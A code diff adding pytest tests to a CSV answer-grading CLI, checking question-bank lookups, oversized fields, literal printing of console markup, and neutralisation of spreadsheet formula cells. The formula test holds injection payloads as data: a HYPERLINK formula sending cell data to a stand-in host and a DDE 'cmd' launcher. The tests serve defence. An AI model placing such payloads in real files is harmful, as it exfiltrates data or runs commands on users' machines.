@@ -135,6 +135,75 @@ async def test_long_files_report_progress_and_share_rubrics() -> None:
     assert len(results) == 150 and all(r.grade is not None for r in results)
 
 
+def test_question_id_grades_against_the_bank_rubric(app: typer.Typer, tmp_path: Path) -> None:
+    src = write_csv(tmp_path / "in.csv", [
+        {"question_id": "py-gil-open", "answer": "Only one thread runs bytecode at a time, so "
+         "CPU-bound work needs multiprocessing while I/O-bound threads still help; it does not "
+         "make your code thread-safe.", "human_grade": "5"},
+        {"question_id": "py-gil-open", "answer": "No idea.", "human_grade": "0"},
+        {"question_id": "no-such-question", "answer": "Anything.", "human_grade": "0"},
+    ])
+    out = tmp_path / "out.csv"
+    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
+    assert res.exit_code == 1, res.output
+    rows = read_csv(out)
+    assert rows[0]["verdict"] in ("correct", "partial") and rows[1]["verdict"] == "wrong"
+    assert "You covered" in rows[0]["feedback"]  # the bank's key points, not derived ones
+    assert rows[2]["verdict"] == "error" and "unknown question_id" in rows[2]["feedback"]
+    assert "line 4:" in res.output
+
+
+def test_an_id_the_bank_does_not_know_falls_back_to_the_row(app: typer.Typer,
+                                                             tmp_path: Path) -> None:
+    src = write_csv(tmp_path / "in.csv", [row("It is a lock: one thread at a time.",
+                                              question_id="OUR-OWN-7")])
+    out = tmp_path / "out.csv"
+    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
+    assert res.exit_code == 0, res.output
+    assert read_csv(out)[0]["verdict"] in ("partial", "correct")
+
+
+def test_formula_cells_are_neutralised(app: typer.Typer, tmp_path: Path) -> None:
+    evil = ['=HYPERLINK("https://evil.example/?x="&A3,"score")', "+cmd|' /C calc'!A0",
+            "@SUM(1,1)", "-1+1", "\tx", "\rx"]
+    src = write_csv(tmp_path / "in.csv", [row(e) for e in evil])
+    out = tmp_path / "out.csv"
+    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
+    assert res.exit_code == 0, res.output
+    answers = [r["answer"] for r in read_csv(out)]
+    assert answers == ["'" + e for e in evil]
+
+
+def test_markup_in_the_file_is_printed_as_it_is(app: typer.Typer, tmp_path: Path) -> None:
+    src = write_csv(tmp_path / "in.csv", [
+        row("It is a lock.", kind="[/oops]"),
+        row("It is a lock.", kind="[bold red]FAKE: all rows graded OK[/]"),
+    ])
+    out = tmp_path / "out.csv"
+    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
+    assert res.exit_code == 1, res.output
+    assert "unknown kind '[/oops]'" in res.output
+    assert "[bold red]fake: all rows graded ok[/]" in res.output  # literally, not styled
+    bad = write_csv(tmp_path / "bad.csv", [{"[bold red]FAKE: all rows graded OK[/]": "x"}])
+    res = CliRunner().invoke(app, ["grade-file", str(bad), "--out", str(out)])
+    assert res.exit_code == 2 and "found: [bold red]FAKE: all rows graded OK[/]" in res.output
+
+
+def test_one_oversized_field_fails_only_its_row(app: typer.Typer, tmp_path: Path) -> None:
+    src = write_csv(tmp_path / "in.csv", [row("x" * 200_000), row("It is a lock, one thread "
+                                                                   "at a time.")])
+    out = tmp_path / "out.csv"
+    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
+    assert res.exit_code == 1, res.output
+    old = csv.field_size_limit(1_000_000)
+    try:
+        rows = read_csv(out)
+    finally:
+        csv.field_size_limit(old)
+    assert rows[0]["verdict"] == "error" and "200,000 characters" in rows[0]["feedback"]
+    assert rows[1]["verdict"] in ("partial", "correct")
+
+
 def test_code_rows_cannot_reach_the_operators_files(app: typer.Typer, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
     """Review C4: grade-file ran candidates' code as the operator (it read ~/.ssh/id_rsa into
